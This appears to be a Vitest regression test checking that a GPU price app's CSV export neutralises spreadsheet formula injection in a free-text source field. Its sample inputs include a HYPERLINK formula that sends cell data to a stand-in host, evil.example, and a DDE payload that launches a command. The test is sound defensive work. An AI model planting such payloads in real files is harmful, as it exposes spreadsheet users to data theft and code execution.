// Issue 9: a GPU price's free-text source must not become a spreadsheet formula in the exported CSV.
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestDb, type TestDb } from "../test/test-db";
import { callerAs, createTeamFixture, type TeamFixture } from "../test/fixtures";

let db: TestDb;
let team: TeamFixture;
beforeAll(async () => {
  db = await createTestDb();
  team = await createTeamFixture(db.prisma, "csvf");
});
afterAll(async () => db?.close());

const HEADER = "provider,region,gpuType,pricePerHour,currency,source,effectiveDate";
const SOURCES = [
  '=HYPERLINK("https://evil.example/?x="&A1,"price")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "=1\nsecond line",
];

describe("GPU price CSV export (formula injection)", () => {
  it("writes cells starting with = + - @ (or tab/CR/LF) as text, and re-imports them unchanged", async () => {
    const op = await callerAs(db.prisma, team.users.OPERATOR, team.teamId);
    const rows = SOURCES.map((s, i) => `AWS,us-east-${i + 1},H100,2.5,USD,"${s.replaceAll('"', '""')}",2026-11-01`);
    expect(await op.gpuPrice.importCsv({ csv: `${HEADER}\n${rows.join("\n")}\n` })).toEqual({
      imported: SOURCES.length,
    });

    const csv = (await op.gpuPrice.exportCsv()).csv;
    const cells = Papa.parse<string[]>(csv.trim()).data.flat();
    const dangerous = cells.filter((c) => /^[=+\-@\t\r\n]/.test(c));
    // Before the fix these cells were exported verbatim and a spreadsheet ran them.
    expect(dangerous, `cells a spreadsheet would evaluate: ${JSON.stringify(dangerous)}`).toEqual([]);
    for (const s of SOURCES) expect(cells).toContain(`'${s}`);

    // Export → import round-trips: the protective quote is stripped again.
    await op.gpuPrice.importCsv({ csv });
    const list = await op.gpuPrice.list({ q: "us-east", pageSize: 50 });
    expect(
      list.items
        .map((p) => p.source)
        .filter((s) => s !== "test")
        .sort(),
    ).toEqual([...SOURCES].sort());
  });
});
